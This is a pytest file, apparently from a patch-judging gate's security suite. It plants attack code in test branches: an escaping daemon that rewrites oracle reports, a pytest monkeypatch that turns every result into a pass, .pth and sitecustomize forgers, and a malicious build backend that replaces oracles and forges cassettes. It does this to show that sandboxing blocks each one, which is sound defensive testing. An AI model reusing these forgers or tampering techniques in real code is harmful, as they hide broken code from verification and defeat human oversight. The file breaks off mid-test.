"""Attacks on the confinement of the patch's code (issue 22), each a real branch of the example.

Every attack branch breaks a discount rule for real users: `invert_discount` returns one cent
too much above 10 euros, which only the property oracles see (no parent unit test and no
case pins it). Each adds code that would make the gate pass the break, in two spellings, and
is judged twice: confined (this machine's namespaces), and unconfined (a base whose judge.yaml
says `sandbox: best-effort`, and `ORACLE_SANDBOX_LEVEL=none`). The unconfined run proves the
attack is real: it acts there (markers it wrote, files it rewrote, or a merge). The confined
run must show it could not act, and the verdict is never `merge`.

The planted code writes its markers into the test's own folder, named in the code: a
confined process cannot write there, an unconfined one can, and so can the judge's trusted
pytest runs (unconfined at every level), where a forger planted in the oracle environment
would run.
"""

from __future__ import annotations

import contextlib
import json
import os
import signal
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from _gate.core.context import REVIEW
from _gate.plugin.confine import LEVEL_VARIABLE
from _gate.runs.reuse import CACHE_ENV
from _gate.runs.sandbox import Sandbox, run_confined

from tests.helpers import CAUGHT_BY, PERTURBATIONS, breaks_the_rules, pth, shown
from tests.helpers import JOB_ENV as ENV
from tools.bakery import Verdict, branch, edit, git, judge

Attack = Callable[[Path], Callable[[Path], None]]  # markers folder -> the branch's change


@dataclass
class Judged:
    verdict: Verdict
    markers: dict[str, str]  # file name -> text, of what the planted code wrote

    def steps_saying(self, text: str) -> list[dict[str, str]]:
        return [s for s in self.verdict.report["steps"] if text in json.dumps(s)]


@pytest.fixture(autouse=True)
def private_uv_cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Each test's judgments install from a uv cache of their own: were an environment's
    files hard links into uv's cache again (the judge installs copies, which
    test_a_build_cannot_forge_through_the_files_its_environment_shares holds it to), a write
    into one by an unconfined attack here would reach every environment built after it on
    this machine, and fail tests that have nothing to do with it."""
    cache = tmp_path / "uv-cache"
    monkeypatch.setenv("UV_CACHE_DIR", str(cache))
    return cache


def append(path: Path, text: str) -> None:
    path.write_text(path.read_text("utf-8") + text, "utf-8")


def named(code: str, **names: object) -> str:
    """`code` after assignments of `names` (as Python literals): planted code names its
    targets the way an attacker who read the gate would."""
    return "".join(f"{key} = {value!r}\n" for key, value in names.items()) + code


# Where planted code looks for the oracle environment: beside the build's own (the judge's
# envs/ folder), and kept between judgments in the cache folder (_gate/runs/kept_envs.py), which
# judge_twice() sets beside the markers' folders: an attacker who read the gate knows both.
SITES = "lib/python*/site-packages"


def targets(markers: Path) -> dict[str, str]:
    """Where planted code looks: the oracle environment's site folder (SITES) in the cache
    (KEPT) and in the judge's temporary folders (under TEMP, the machine's temporary
    directory: a build's own TMPDIR is its scratch)."""
    cache = str(markers.parent / "cache")
    return {"SITES": SITES, "KEPT": cache, "TEMP": tempfile.gettempdir()}


def best_effort(repo: Path) -> None:
    edit(repo / "oracle/judge.yaml", "sandbox: required", "sandbox: best-effort")


def read_markers(folder: Path) -> dict[str, str]:
    return {p.name: p.read_text("utf-8", "replace") for p in sorted(folder.iterdir())}


def judge_twice(shop: Path, tmp_path: Path, name: str, attack: Attack) -> tuple[Judged, Judged]:
    """The attack judged confined (base main) and unconfined (a best-effort base of its own,
    so what it forges there, cassettes included, is that base's only). Both as after a code
    owner's review (ORACLE_REVIEW=1): an in-tree backend is build configuration, needs-review
    on its own, and what is judged here is what the patch's code does when it runs. Both keep
    their runs and environments in a cache folder of this test's own (targets())."""
    held, loose = tmp_path / "confined", tmp_path / "unconfined"
    for folder in (held, loose):
        folder.mkdir()
        folder.chmod(0o777)
    head = branch(shop, f"{name}-confined", attack(held))
    base = branch(shop, f"{name}-best-effort", best_effort)
    free = branch(shop, f"{name}-unconfined", attack(loose), base=base)
    reviewed = {REVIEW: "1", CACHE_ENV: str(tmp_path / "cache")}
    confined = judge(shop, "--head", head, env=reviewed)
    unconfined = judge(
        shop, "--base", base, "--head", free, env={**reviewed, LEVEL_VARIABLE: "none"}
    )
    return Judged(confined, read_markers(held)), Judged(unconfined, read_markers(loose))


def assert_confined_and_not_merged(judged: Judged) -> None:
    verdict = judged.verdict
    assert verdict.report.get("confinement") == "namespaces", verdict.output[-3000:]
    assert verdict.report["verdict"] != "merge", shown(verdict)
    assert verdict.returncode != 0
    assert judged.markers == {}, f"confined planted code wrote {judged.markers}"


# --- 1. a case's daemon escapes the process group, and rewrites a report and evidence later --

# src/shop/_daemon.py: started by the CLI in its own session; rewrites the oracle report in
# reports/ and every evidence file of a pytest run of this judgment (found through /proc),
# counting what it managed, for as long as it lives.
DAEMON = """
import json
import os
import sys
import time


def put(path, text):
    try:
        with open(path + ".tmp", "w") as out:
            out.write(text)
        os.replace(path + ".tmp", path)
        return 1
    except OSError:
        return 0


def evidence_files(judge):
    found = set()
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as cmdline:
                args = cmdline.read().decode("utf-8", "replace").split("\\0")
        except OSError:
            continue
        if any(judge in arg for arg in args):
            found |= {a.split("=", 1)[1] for a in args if a.startswith("--oracle-evidence=")}
    return found


def forge(path):
    try:
        with open(path) as evidence:
            data = json.load(evidence)
    except (OSError, ValueError):
        return 0
    if data.get("forged"):
        return 0
    for row in data.get("tests", {}).values():
        row["outcome"], row["message"] = "passed", ""
    data["forged"] = True
    return put(path, json.dumps(data))


def main(tag, markers, judge, reports):
    put(os.path.join(markers, tag + ".pid"), str(os.getpid()))
    report = {"schema_version": 2, "step": "oracle", "status": "pass", "exit_code": 0,
              "summary": "FORGED: every oracle passed", "evidence": {}}
    counts = {"reports": 0, "evidence": 0}
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline:
        counts["reports"] += put(os.path.join(reports, "oracle.json"), json.dumps(report))
        for path in evidence_files(judge):
            counts["evidence"] += forge(path)
        put(os.path.join(markers, tag), json.dumps(counts))
        time.sleep(0.01)


if __name__ == "__main__":
    main(*sys.argv[1:5])
"""

# Appended to src/shop/cli.py: a case's run of the console script starts the daemon twice,
# one spelling each, neither in the case's process group.
ESCAPE = """
if Path(sys.argv[0]).name == "shop":
    import os as _os
    import subprocess as _sp

    def _daemon(tag: str) -> list[str]:
        judge = str(Path(sys.executable).parents[3])  # envs/patch/bin/python
        return [sys.executable, "-m", "shop._daemon", tag, MARKERS, judge, REPORTS]

    _quiet = {"stdin": _sp.DEVNULL, "stdout": _sp.DEVNULL, "stderr": _sp.DEVNULL}
    _sp.Popen(_daemon("popen"), start_new_session=True, **_quiet)
    _null = [(_os.POSIX_SPAWN_OPEN, fd, _os.devnull, _os.O_RDWR, 0) for fd in (0, 1, 2)]
    _os.posix_spawn(sys.executable, _daemon("spawn"), dict(_os.environ), file_actions=_null,
                    setsid=True)
"""


def escaping_daemons(reports: Path) -> Attack:
    def attack(markers: Path) -> Callable[[Path], None]:
        def change(repo: Path) -> None:
            breaks_the_rules(repo)
            (repo / "src/shop/_daemon.py").write_text(DAEMON, "utf-8")
            code = named(ESCAPE, MARKERS=str(markers), REPORTS=str(reports))
            append(repo / "src/shop/cli.py", code)

        return change

    return attack


@contextlib.contextmanager
def daemons_stopped(*folders: Path) -> Iterator[None]:
    """Kill the planted daemons whatever the test found (they write their pids)."""
    try:
        yield
    finally:
        for pid_file in (p for folder in folders for p in folder.glob("*.pid")):
            with contextlib.suppress(ProcessLookupError, ValueError):
                os.kill(int(pid_file.read_text()), signal.SIGKILL)


@pytest.mark.e2e
def test_a_case_daemon_in_its_own_session_is_named_killed_and_fails_its_step_closed(
    shop: Path, tmp_path: Path
) -> None:
    with daemons_stopped(tmp_path / "confined", tmp_path / "unconfined"):
        confined, unconfined = judge_twice(
            shop, tmp_path, "escape", escaping_daemons(shop / "reports")
        )
    # Unconfined, both spellings ran and rewrote the report in reports/ (the step contract
    # keeps the judge from reading it back).
    for tag in ("popen", "spawn"):
        assert f"{tag}.pid" in unconfined.markers, unconfined.markers
        assert json.loads(unconfined.markers[tag])["reports"] > 0, unconfined.markers
    assert unconfined.verdict.report["verdict"] != "merge"
    # Confined, neither wrote anything, and the case's step names one survivor and one more.
    assert_confined_and_not_merged(confined)
    # The attack also breaks the rules: that proof blocks, and the killed daemon's step
    # still says it could not judge.
    assert confined.verdict.report["verdict"] == "block"
    killed = confined.steps_saying("outlived its command")
    assert killed, shown(confined.verdict)
    assert killed[0]["status"] == "error", shown(confined.verdict)
    assert "shop._daemon" in killed[0]["summary"]
    assert "and 1 more" in killed[0]["summary"]
    assert "FORGED" not in json.dumps(confined.verdict.report)


# --- 2. the subject worker plants a forger in the oracle environment --------------------------

# Run by every pytest that imports it: a marker naming the spelling and the process (where it
# may write one: a confined run may not, and forges all the same), then every report a pass.
FORGER = """
import os as _os
try:
    open(_os.path.join(MARKERS, TAG + "." + str(_os.getpid())), "w").close()
except OSError:
    pass
import _pytest.reports as _reports
_real_init = _reports.TestReport.__init__
def _passed(self, *args, **kwargs):
    _real_init(self, *args, **kwargs)
    self.outcome, self.longrepr = "passed", None
_reports.TestReport.__init__ = _passed
"""


def forger(markers: Path, tag: str) -> str:
    return named(FORGER, MARKERS=str(markers), TAG=tag)


# Appended to src/shop/__init__.py: in the subject worker (the oracle's adapter imports the
# package there), write both spellings into the oracle environment beside the build's; where
# that is refused, go on silently, as an attacker would (the worker then answers as usual).
PLANT_IN_WORKER = """
import sys as _sys
from pathlib import Path as _Path

if _Path(_sys.argv[0]).name == "worker.py":
    _oracle = _Path(_sys.executable).parents[2] / "oracle"
    _sites = [*_oracle.glob(SITES), *_Path(KEPT).glob("envs/*/env/" + SITES)]
    for _site in _sites:
        for _name, _text in PLANTS:
            try:
                (_site / _name).write_text(_text)
            except OSError:
                pass
"""


def worker_plants(markers: Path) -> Callable[[Path], None]:
    plants = [
        ("zz_forge.pth", pth(forger(markers, "worker-pth"))),
        ("sitecustomize.py", forger(markers, "worker-sitecustomize")),
    ]

    def change(repo: Path) -> None:
        breaks_the_rules(repo)
        planted = named(PLANT_IN_WORKER, PLANTS=plants, **targets(markers))
        append(repo / "src/shop/__init__.py", planted)

    return change


def assert_sealed_against(unconfined: Judged) -> None:
    """The unconfined run shows the attack is real: it wrote into the oracle environment,
    and the oracle step fails closed naming what it wrote, without a single forged run."""
    oracle = unconfined.verdict.step("oracle")["summary"]
    assert "oracle environment changed since it was built" in oracle, shown(unconfined.verdict)
    assert " added" in oracle or " changed" in oracle, oracle
    assert unconfined.verdict.report["verdict"] == "error", shown(unconfined.verdict)


def forged_runs(markers: dict[str, str], tag: str) -> int:
    """How many trusted pytest processes ran the forger of spelling `tag`."""
    return sum(1 for name in markers if name.startswith(f"{tag}."))


@pytest.mark.e2e
def test_a_worker_cannot_plant_a_pth_or_sitecustomize_in_the_oracle_environment(
    shop: Path, tmp_path: Path
) -> None:
    confined, unconfined = judge_twice(shop, tmp_path, "worker-plant", worker_plants)
    # Unconfined, the worker planted them in the oracle environment, and only the seal, the
    # second line, stopped the oracle's retries running them (before it, the break merged,
    # its failures excused by flake control).
    assert_sealed_against(unconfined)
    # Confined, neither was written (no trusted run marked one), and the base's own oracles
    # name the break.
    assert_confined_and_not_merged(confined)
    assert confined.verdict.report["verdict"] == "block", shown(confined.verdict)
    assert CAUGHT_BY in confined.verdict.step("flake-budget")["summary"], shown(confined.verdict)


# --- 3. the build backend plants a forger in the oracle environment at build time ------------

# _backend/evil.py, the patch's in-tree build backend: waits for the oracle environment
# (built beside the patch) to hold pytest, plants a .pth beside it and a forger appended to
# pytest's own package, then builds with flit. Refused, it says so and the build fails.
BACKEND = """
import sys
import time
from pathlib import Path


def inits():
    # The judge's temporary folders (the backend runs in a scratch folder beside them), and
    # the environments kept between judgments.
    judges = Path(TEMP).glob("oracle-judge-*/envs/oracle")
    beside = [init for oracle in judges for init in oracle.glob(SITES + "/pytest/__init__.py")]
    return sorted([*beside, *Path(KEPT).glob("envs/*/env/" + SITES + "/pytest/__init__.py")])


def plant():
    deadline = time.monotonic() + 20  # the oracle environment is sealed before it starts
    while not (found := inits()):
        if time.monotonic() > deadline:
            raise RuntimeError(f"no oracle environment beside {sys.executable} nor kept")
        time.sleep(0.1)
    time.sleep(1.0)  # its installer may still be writing
    refused = []
    for pytest_init in found:
        for target, text, mode in (
            (pytest_init.parent.parent / "zz_backend.pth", PTH, "w"),
            (pytest_init, PYTEST_TAIL, "a"),
        ):
            if mode == "a" and PYTEST_TAIL in pytest_init.read_text():
                continue  # each hook of the build imports this backend again
            try:
                with open(target, mode) as out:
                    out.write(text)
            except OSError as exc:
                refused.append(f"{target.name}: {exc.strerror}")
    if refused:
        raise PermissionError("PLANT REFUSED: " + "; ".join(refused))


plant()
from flit_core.buildapi import *  # noqa: E402,F403
"""

IN_TREE_BACKEND = (
    'build-backend = "flit_core.buildapi"\n',
    'build-backend = "evil"\nbackend-path = ["_backend"]\n',
)


def backend(code: str) -> Callable[[Path], None]:
    """Point the patch's build at an in-tree backend `code`."""

    def change(repo: Path) -> None:
        edit(repo / "pyproject.toml", *IN_TREE_BACKEND)
        (repo / "_backend").mkdir()
        (repo / "_backend/evil.py").write_text(code, "utf-8")

    return change


def backend_plants(markers: Path) -> Callable[[Path], None]:
    code = named(
        BACKEND,
        PTH=pth(forger(markers, "backend-pth")),
        PYTEST_TAIL="\n" + forger(markers, "backend-pytest"),
        **targets(markers),
    )

    def change(repo: Path) -> None:
        breaks_the_rules(repo)
        backend(code)(repo)

    return change


@pytest.mark.e2e
def test_a_build_backend_cannot_plant_in_the_oracle_environment(shop: Path, tmp_path: Path) -> None:
    confined, unconfined = judge_twice(shop, tmp_path, "backend-plant", backend_plants)
    # Unconfined, the backend planted them before any oracle ran, and only the seal stopped a
    # clean, forged merge.
    assert_sealed_against(unconfined)
    # Confined, the build finds no oracle environment in sight (the judge's temporary folders
    # and the cache are not its own: issue 48), or is refused both writes, and the patch does
    # not build.
    assert_confined_and_not_merged(confined)
    assert confined.verdict.step("build")["status"] == "block", shown(confined.verdict)
    built = confined.verdict.step("build")["summary"]
    assert "the patch does not build" in built, built
    assert "PLANT REFUSED" in built or "no oracle environment" in built, built


# The patch's backend writes only where a build may: the environment it installs into. It
# appends a forger to two of pytest's files there, which uv would install as hard links into
# its cache, shared with the oracle's environment built from the same cache, were it not told
# to copy (_gate/runs/envs.py tools_env).
SHARED_FILES = """
import sys
from pathlib import Path

site = sorted(Path(sys.executable).parents[1].glob("lib/python*/site-packages"))[0]
for name, tail in (("pytest/__init__.py", PYTEST_TAIL), ("_pytest/runner.py", RUNNER_TAIL)):
    target = site / name
    if tail not in target.read_text():  # each hook of the build imports this backend again
        with open(target, "a") as out:
            out.write(tail)
from flit_core.buildapi import *  # noqa: E402,F403
"""


def forges_through_shared_files(markers: Path) -> Callable[[Path], None]:
    code = named(
        SHARED_FILES,
        PYTEST_TAIL="\n" + forger(markers, "shared-pytest"),
        RUNNER_TAIL="\n" + forger(markers, "shared-runner"),
    )

    def change(repo: Path) -> None:
        breaks_the_rules(repo)
        backend(code)(repo)

    return change


@pytest.mark.e2e
def test_a_build_cannot_forge_through_the_files_its_environment_shares(
    shop: Path, tmp_path: Path
) -> None:
    """Issue 22, items 3 and 5 (a hole until the judge installed copies): a build may write
    the environment it installs into, and were that environment's files hard links into uv's
    cache, shared with the oracle's environment, Landlock would allow the write by its path
    and the oracle's pytest would run it. The trusted oracle runs are unconfined, so what the
    forger marks proves it ran there."""
    markers = tmp_path / "markers"
    markers.mkdir()
    head = branch(shop, "shared-files", forges_through_shared_files(markers))
    verdict = judge(shop, "--head", head)
    found = read_markers(markers)
    assert verdict.report.get("confinement") == "namespaces", verdict.output[-3000:]
    ran = {tag: forged_runs(found, tag) for tag in ("shared-pytest", "shared-runner")}
    assert ran == {"shared-pytest": 0, "shared-runner": 0}, (
        f"the oracle's trusted pytest ran the patch's forger {ran}; verdict "
        f"{verdict.report['verdict']}:\n{shown(verdict)}"
    )
    assert verdict.report["verdict"] != "merge", shown(verdict)


# --- 4. a build rewrites the base worktree's oracles; a case rewrites the repository's cassette

# The patch's backend replaces the base worktree's property oracles with one that passes
# (and marks that it ran); refused, it goes on silently, as an attacker would.
REPLACE_ORACLES = """
from pathlib import Path

PASSING = (
    "import os\\n"
    f"def {CAUGHT_BY}():\\n"
    f"    open(os.path.join({MARKERS!r}, 'replaced-oracle.' + str(os.getpid())), 'w').close()\\n"
    "    assert os.getpid() > 0\\n"
)
# The judge's folders, where an attacker who read the gate looks: its temporary folders (the
# backend runs in an environment of its own, in a scratch folder beside them).
for judge in Path(TEMP).glob("oracle-judge-*"):
    try:
        (judge / "parent" / "oracle" / "test_properties.py").write_text(PASSING)
    except OSError:
        pass
from flit_core.buildapi import *  # noqa: E402,F403
"""

# Appended to src/shop/cli.py: a case's run of the CLI finds the repository and the base
# through the base worktree's .git file, and rewrites the cassette the record step saved there
# (a later judgment of the same base reuses it); refused, it goes on silently.
FORGE_CASSETTE = """
if Path(sys.argv[0]).name == "shop":
    import json as _json

    try:
        _judge = Path(sys.executable).parents[3]
        _gitdir = Path((_judge / "parent" / ".git").read_text().split("gitdir:", 1)[1].strip())
        _repo, _base = _gitdir.parents[2], (_gitdir / "HEAD").read_text().strip()
        _cassette = _repo / ".oracle" / "cassettes" / _base / "cassettes.json"
        _data = _json.loads(_cassette.read_text())
        if "forged_by" not in _data:
            _data["forged_by"] = "the patch's case"
            _cassette.write_text(_json.dumps(_data))
            (Path(MARKERS) / "cassette").write_text(str(_cassette))
    except OSError:
        pass
"""


def rewrites_judged_files(markers: Path) -> Callable[[Path], None]:
    def change(repo: Path) -> None:
        breaks_the_rules(repo)
        code = named(REPLACE_ORACLES, MARKERS=str(markers), CAUGHT_BY=CAUGHT_BY, **targets(markers))
        backend(code)(repo)
        append(repo / "src/shop/cli.py", named(FORGE_CASSETTE, MARKERS=str(markers)))

    return change


def cassette_of(shop: Path, ref: str) -> Path:
    return shop / ".oracle" / "cassettes" / git(shop, "rev-parse", ref) / "cassettes.json"


@pytest.mark.e2e
def test_a_build_or_case_cannot_rewrite_the_base_worktree_or_the_cassettes(
    shop: Path, tmp_path: Path
) -> None:
    confined, unconfined = judge_twice(shop, tmp_path, "rewrite", rewrites_judged_files)
    # Unconfined, the replaced oracle ran in place of the base's (a merge of the break), and
    # the case rewrote its base's cassette in .oracle/.
    assert forged_runs(unconfined.markers, "replaced-oracle") > 0, unconfined.markers
    assert unconfined.verdict.report["verdict"] == "merge", shown(unconfined.verdict)
    forged = cassette_of(shop, "rewrite-best-effort")
    assert unconfined.markers.get("cassette") == str(forged), unconfined.markers
    assert json.loads(forged.read_text("utf-8"))["forged_by"] == "the patch's case"
    # Confined, the base's own oracles ran and name the break; the cassette stays as recorded.
    assert_confined_and_not_merged(confined)
    assert confined.verdict.report["verdict"] == "block"
    assert CAUGHT_BY in confined.verdict.step("flake-budget")["summary"]
    assert "forged_by" not in json.loads(cassette_of(shop, "main").read_text("utf-8"))


# --- 5. honest code that writes its own scratch keeps merging ---------------------------------

# A CLI that keeps a history in HOME and a note of its last run in its working directory, a
# package that caches in the temporary directory at import (a case, the subject worker, the
# crossrun and the collection all import it), and a test that writes tmp_path and reads data
# relative to the tree's root. No discount rule changes.
REMEMBER = '''

def _remember_run(argv: Sequence[str] | None) -> None:
    """A history of runs in HOME, the last run in the working directory."""
    words = " ".join(sys.argv[1:] if argv is None else argv)
    history = Path.home() / ".shop" / "history.log"
    history.parent.mkdir(exist_ok=True)
    with history.open("a", encoding="utf-8") as out:
        out.write(words + "\\n")
    Path("shop-last-run.txt").write_text(words, encoding="utf-8")


def main('''

TEMP_CACHE = """
import os as _os
import tempfile as _tempfile

# The rates' cache, in the temporary directory of whichever process imports the package.
_cache = _os.path.join(_tempfile.gettempdir(), "shop-cache")
_os.makedirs(_cache, exist_ok=True)
with open(_os.path.join(_cache, "version"), "w", encoding="utf-8") as _out:
    _out.write(__version__)
"""

DATA_TEST = '''"""The fixtures' carts, read relative to the tree's root, copied through tmp_path."""

from __future__ import annotations

import json
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent


def test_fixture_carts_round_trip_through_tmp_path(tmp_path: Path) -> None:
    lines = (ROOT / "fixtures" / "carts.jsonl").read_text("utf-8").splitlines()
    copy = tmp_path / "carts.jsonl"
    copy.write_text("\\n".join(lines), "utf-8")
    carts = [json.loads(line) for line in copy.read_text("utf-8").splitlines() if line]
    assert carts and all(isinstance(cart, dict) for cart in carts)
'''


def remembering(repo: Path) -> None:
    # Every perturbed run on this base: the files a run touches are compared there.
    edit(repo / "oracle/judge.yaml", "perturb: []\n", PERTURBATIONS)
    cli = repo / "src/shop/cli.py"
    edit(cli, "\n\ndef main(", REMEMBER)
    edit(
        cli,
        "    parser = build_parser()\n",
        "    _remember_run(argv)\n    parser = build_parser()\n",
    )


def honest(repo: Path) -> None:
    append(repo / "src/shop/__init__.py", TEMP_CACHE)
    (repo / "tests/test_fixture_carts.py").write_text(DATA_TEST, "utf-8")


def on_a_remembering_base(shop: Path, name: str) -> tuple[str, ...]:
    """The judge's --base and --head: a base whose CLI already keeps its history in HOME and
    its last run in its working directory, and the honest patch on it. Replay compares what a
    run touches (files.touched, docs/perturbation.md), the same for both builds here; a patch
    that starts writing into HOME blocks instead (tests/test_perturb.py)."""
    base = branch(shop, f"{name}-base", remembering)
    return "--base", base, "--head", branch(shop, name, honest, base=base)


@pytest.mark.e2e
def test_honest_code_writing_its_home_cwd_temp_and_tmp_path_merges_confined(shop: Path) -> None:
    verdict = judge(shop, *on_a_remembering_base(shop, "honest-scratch"))
    assert verdict.report.get("confinement") == "namespaces", verdict.output[-3000:]
    assert verdict.report["verdict"] == "merge", shown(verdict)
    assert verdict.returncode == 0
    # The patch's own test ran, advisory, and passed: tmp_path and the root's data work.
    assert "1 new" in verdict.step("tests")["summary"] or "45 passed" in json.dumps(
        verdict.step("tests")
    ), verdict.step("tests")


# --- an unprivileged judge ------------------------------------------------------------------

NOBODY = 65534
SYSTEM_PYTHON = Path("/usr/bin/python3.11")  # the wheelhouse's cp311 wheels; readable by all


def chown_tree(root: Path, uid: int) -> None:
    for folder, dirs, files in os.walk(root):
        for name in [folder, *(os.path.join(folder, n) for n in dirs + files)]:
            os.lchown(name, uid, uid)


def judge_env(dest: Path, requirements: Path, wheelhouse: Path) -> Path:
    """The judge's own environment as `nox -s judge` makes it, from a python every user can
    run (the test's own lives under /root, which is closed to others)."""
    uv = ["uv", "--no-cache"]
    subprocess.run([*uv, "venv", "-q", "--python", str(SYSTEM_PYTHON), str(dest)], check=True)
    python = dest / "bin" / "python"
    install = [*uv, "pip", "install", "-q", "--offline", "--python", str(python)]
    install += ["--no-index", "--find-links", str(wheelhouse), "--require-hashes"]
    subprocess.run([*install, "-r", str(requirements)], check=True)
    return python


def as_nobody(repo: Path, python: Path, home: Path, *args: str) -> Verdict:
    """scripts/judge.py run as nobody (what nox -s judge runs), offline from the wheelhouse."""
    report = repo / "reports" / "judge-report.json"
    report.unlink(missing_ok=True)
    env = {
        "HOME": str(home),
        "PATH": f"{python.parent}:/usr/bin:/bin",
        "TMPDIR": str(home),
        "JUDGE_OFFLINE": "1",
        "PIP_NO_INDEX": "1",
        "UV_OFFLINE": "1",
        "LANG": "C.UTF-8",
    }
    nobody = ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", "--"]
    proc = subprocess.run(
        [*nobody, str(python), "scripts/judge.py", *args],
        cwd=repo,
        env=env,
        capture_output=True,
        text=True,
        check=False,
    )
    data = json.loads(report.read_text("utf-8")) if report.is_file() else {}
    return Verdict(proc.returncode, data, proc.stdout + proc.stderr)


@pytest.mark.e2e
def test_an_unprivileged_judge_confines_in_namespaces_and_merges_honest_code(
    shop: Path, wheelhouse: Path
) -> None:
    """As nobody (this machine runs the suite as root; CI runners and laptops do not): the
    bake, its wheelhouse and the judge's environment copied where nobody may write, since
    pytest's own temporary folders are root's alone."""
    refs = on_a_remembering_base(shop, "honest-unprivileged")
    with tempfile.TemporaryDirectory(prefix="oracle-unprivileged-") as name:
        root = Path(name)
        root.chmod(0o755)
        repo = root / "shop"
        subprocess.run(["cp", "-a", str(shop), str(repo)], check=True)
        subprocess.run(["cp", "-a", str(wheelhouse), str(root / "wheelhouse")], check=True)
        python = judge_env(root / "judge-env", repo / "scripts/requirements-judge.txt", wheelhouse)
        (root / "home").mkdir()
        chown_tree(root, NOBODY)
        wheels = str(root / "wheelhouse")
        verdict = as_nobody(repo, python, root / "home", "--wheelhouse", wheels, *refs)
        writer = (repo / "reports" / "judge-report.json").stat().st_uid
    assert writer == NOBODY, "the judge did not run as nobody"
    assert verdict.report.get("confinement") == "namespaces", verdict.output[-3000:]
    assert verdict.report["verdict"] == "merge", shown(verdict)
    assert verdict.returncode == 0


# --- the launcher alone: what a confined command leaves behind --------------------------------

# A command that starts a daemon in a session of its own, which ticks a file of its scratch
# (its command line names the scratch, so the test finds it in /proc), then hangs past its
# timeout: the gate then kills the launcher's group.
HANG = """
import subprocess, sys, time
tick = "import sys, time\\nwhile True:\\n    open(sys.argv[1], 'a').write('.'); time.sleep(0.05)"
subprocess.Popen([sys.executable, "-c", tick, sys.argv[1]], start_new_session=True)
time.sleep(120)
"""


def processes_naming(text: str) -> list[int]:
    """The pids of every process whose command line holds `text` (inside a PID namespace
    too: this /proc is the machine's)."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        with contextlib.suppress(OSError):
            if text.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
                found.append(int(pid))
    return found


@pytest.mark.parametrize("level", ["namespaces", "subreaper"])
def test_a_command_killed_at_its_timeout_leaves_no_daemon_running(
    level: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """At its timeout the gate SIGKILLs the launcher's group. In namespaces the daemon dies
    with PID 1; a subreaper that is killed reaps nothing, so its orphans must not outlive it
    either (issue 22: no process started for a step outlives that step). The subreaper level
    runs as under `sandbox: best-effort`: it cannot hide the machine's services."""
    monkeypatch.setenv(LEVEL_VARIABLE, level)
    monkeypatch.setattr(Sandbox, "required", level == "namespaces")
    ticks = tmp_path / "ticks"
    cmd = [sys.executable, "-c", HANG, str(ticks)]
    try:
        done = run_confined(cmd, writable=[tmp_path], timeout=3.0, env=ENV)
        time.sleep(1.0)  # SIGKILL is acted on when each process is next scheduled
        left = processes_naming(str(ticks))
        size = ticks.stat().st_size
        time.sleep(0.5)
        grew = ticks.stat().st_size > size
    finally:
        for pid in processes_naming(str(ticks)):
            with contextlib.suppress(ProcessLookupError):
                os.kill(pid, signal.SIGKILL)
    assert done.timed_out
    assert done.confinement == ""
    assert size > 0, "the daemon never ran: the test proves nothing"
    assert not left, f"{level}: a daemon outlived its timed-out command"
    assert not grew, f"{level}: a daemon outlived its timed-out command"


# What a confined command tries outside its scratch: the machine's shared memory folder and
# a regular file among the devices (confine.py leaves all of /dev writable, where /dev/null
# itself can be replaced), and a file's mode and times (Landlock governs neither).
METADATA = """
import os, sys
shm, target, dev = sys.argv[1:4]
for name, act in [
    ("shm", lambda: open(shm, "w").write("left behind")),
    ("chmod", lambda: os.chmod(target, 0o777)),
    ("utime", lambda: os.utime(target, (0, 0))),
    ("dev", lambda: open(dev, "w").write("a regular file where devices live")),
]:
    try:
        act()
        print(name, "changed")
    except OSError as exc:
        print(name, "refused", exc.strerror)
"""


def test_a_confined_command_changes_nothing_outside_its_scratch(tmp_path: Path) -> None:
    """Issue 22, item 3: everything but the scratch is read-only to a confined process."""
    scratch, target = tmp_path / "scratch", tmp_path / "base-file.py"
    scratch.mkdir()
    target.write_text("def test_it():\n    assert True\n", "utf-8")
    target.chmod(0o644)
    before = target.stat()
    name = f"oracle-confined-{os.getpid()}-{tmp_path.name}"
    shm, dev = Path("/dev/shm") / name, Path("/dev") / name
    try:
        done = run_confined(
            [sys.executable, "-c", METADATA, str(shm), str(target), str(dev)],
            writable=[scratch],
            timeout=30.0,
            env=ENV,
        )
        left = [str(p) for p in (shm, dev) if p.exists()]
    finally:
        shm.unlink(missing_ok=True)
        dev.unlink(missing_ok=True)
    after = target.stat()
    said = done.stdout.tail()
    assert done.confinement == "namespaces", said
    assert done.exit_code == 0, said
    assert not left, f"a confined command made {left}, which outlive its step: {said}"
    assert (after.st_mode, after.st_mtime) == (before.st_mode, before.st_mtime), said


# --- every process of the patch's code is confined: no other path starts one --------------

# Planted in the package's __init__ (every process that imports the patch's build) and in an
# in-tree build backend: each tries to leave a file in the markers folder, named by a digest
# of its command line and holding it. Unconfined, the files show which kinds of process ran
# the patch's code; confined, none may appear.
LEAVE_MARK = """
import hashlib as _h, os as _o, sys as _s
def _mark(kind):
    line = kind + " " + " ".join(_s.argv)
    try:
        with open(_o.path.join(MARKERS, _h.sha256(line.encode()).hexdigest()[:16]), "w") as f:
            f.write(line)
    except OSError:
        pass
"""

MARKING_BACKEND = """
from flit_core.buildapi import *
from flit_core import buildapi as _flit

def build_wheel(*args, **kwargs):
    _mark("build")
    return _flit.build_wheel(*args, **kwargs)
"""


def marks_every_launch(markers: Path) -> Callable[[Path], None]:
    def change(repo: Path) -> None:
        append(
            repo / "src/shop/__init__.py",
            named(LEAVE_MARK, MARKERS=str(markers)) + ("_mark('import')\n"),
        )
        backend(named(LEAVE_MARK + MARKING_BACKEND, MARKERS=str(markers)))(repo)

    return change


def kinds(markers: dict[str, str]) -> set[str]:
    """What kind of process left each mark, read off its command line."""
    found = set()
    for line in markers.values():
        if line.startswith("build "):
            found.add("build")
        elif "worker.py" in line:
            found.add("subject worker")
        elif "--collect-only" in line:
            found.add("collect-only")
        elif "pytest" in line:
            found.add("pytest in a build")
        elif line.split()[1].endswith("/shop"):
            found.add("case")
    return found


@pytest.mark.e2e
